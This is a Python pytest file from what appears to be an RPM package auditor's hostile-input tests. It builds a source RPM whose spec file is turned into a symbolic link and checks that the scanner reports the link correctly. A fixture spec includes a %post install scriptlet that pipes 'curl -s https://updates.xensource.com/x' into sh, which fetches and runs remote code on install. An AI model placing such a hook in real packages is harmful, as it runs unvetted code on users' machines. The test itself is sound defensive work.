"""A source RPM whose header lists its spec as a symbolic link (to another file of its payload).

The payload then holds the path the link names, not a spec: ``rpmbuild --rebuild`` follows the
link on its host (to another member of the payload, put beside it, which may build a subpackage
whose ``%post`` curls a Citrix host). The auditor read the path as the spec and said "not a spec
file: no Name or Version", a gap that named the wrong cause (redteam62). It says that the spec is
a link, to what, and that it was not followed; what the builder's parse (the SPEC tag) shows
stays audited.
"""

from __future__ import annotations

import gzip
import json
import struct
from pathlib import Path
from typing import Any

import pytest

from auditor.cli.main import main
from tests.hostile.make_corpus import split_rpm
from tests.rpmbuild import build_all

FILEMODES, FILELINKTOS, BASENAMES = 1030, 1036, 1117
SPEC = """Name: two
Version: 1
Release: 1
Summary: s
License: MIT
BuildArch: noarch
Source1: other.spec
%description
d
%files
"""
OTHER = SPEC.replace("%files\n", "%package tools\nSummary: t\n%description tools\nt\n%post tools\n")
OTHER += "curl -s https://updates.xensource.com/x | sh\n%files\n%files tools\n"


def _members(archive: bytes) -> list[tuple[bytes, int, bytes]]:
    """(name, mode, data) of each member of a newc cpio archive, the trailer left out."""
    found: list[tuple[bytes, int, bytes]] = []
    at = 0
    while True:
        mode, size = int(archive[at + 14 : at + 22], 16), int(archive[at + 54 : at + 62], 16)
        name_size = int(archive[at + 94 : at + 102], 16)
        name_end = at + 110 + name_size
        name = archive[at + 110 : name_end - 1]
        start = name_end + (-name_end % 4)
        if name == b"TRAILER!!!":
            return found
        found.append((name, mode, archive[start : start + size]))
        at = start + size + (-size % 4)


def _cpio(members: list[tuple[bytes, int, bytes]]) -> bytes:
    out = bytearray()
    for number, (name, mode, data) in enumerate([*members, (b"TRAILER!!!", 0, b"")]):
        fields = [number + 1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0]
        out += b"070701" + b"".join(b"%08X" % value for value in fields) + name + b"\0"
        out += b"\0" * (-len(out) % 4) + data
        out += b"\0" * (-len(out) % 4)
    return bytes(out)


def linked(tmp_path: Path) -> Path:
    """two.src.rpm as rpmbuild makes it, its two.spec made a symbolic link to other.spec in the
    header (FILEMODES, FILELINKTOS) and in the payload (the member's mode and data), its
    digests made true again."""
    spec = tmp_path / "two.spec"
    spec.write_text(SPEC)
    srpm, _ = build_all(spec, tmp_path / "top", {"other.spec": OTHER})
    rpm = split_rpm(srpm.read_bytes())
    entry = rpm.main.entry(BASENAMES)
    names = bytes(rpm.main.store[entry[2] :]).split(b"\0")[: entry[3]]
    index = names.index(b"two.spec")
    modes = list(
        struct.unpack(f">{len(names)}H", rpm.main.slots()[rpm.main.entries.index(rpm.main.entry(FILEMODES))])
    )
    modes[index] = 0o120777
    rpm.main.set_value(FILEMODES, struct.pack(f">{len(names)}H", *modes), len(names))
    targets = [b"other.spec" if number == index else b"" for number in range(len(names))]
    rpm.main.set_strings(FILELINKTOS, targets)
    members = [
        (name, 0o120777, b"other.spec") if name == b"two.spec" else (name, mode, data)
        for name, mode, data in _members(gzip.decompress(rpm.payload))
    ]
    rpm.payload = gzip.compress(_cpio(members), mtime=0)
    srpm.write_bytes(rpm.to_bytes())
    return srpm


def scan(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    code = main(["scan", *args, "--format", "json", "-q", "--no-cache"])
    return code, json.loads(capsys.readouterr().out)


def test_a_spec_that_is_a_symbolic_link_is_said_to_be_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    srpm = linked(tmp_path)
    code, document = scan([str(srpm)], capsys)
    rows = {row["nevra"]: row for row in document["packages"]}
    details = [gap["detail"] for gap in rows["two-1-1.src"]["gaps"] if gap["kind"] == "spec-unreadable"]
    assert details and all("symbolic link to 'other.spec'" in detail for detail in details), details
    assert not any("not a spec file" in gap["detail"] for row in rows.values() for gap in row["gaps"])
    # The builder's parse still shows what it built, with the gap: no clean verdict under --strict.
    assert rows["two-1-1.noarch"]["label"] == "two-1-1.noarch (spec)"
    assert code == 0
    assert scan([str(srpm), "--strict"], capsys)[0] == 3
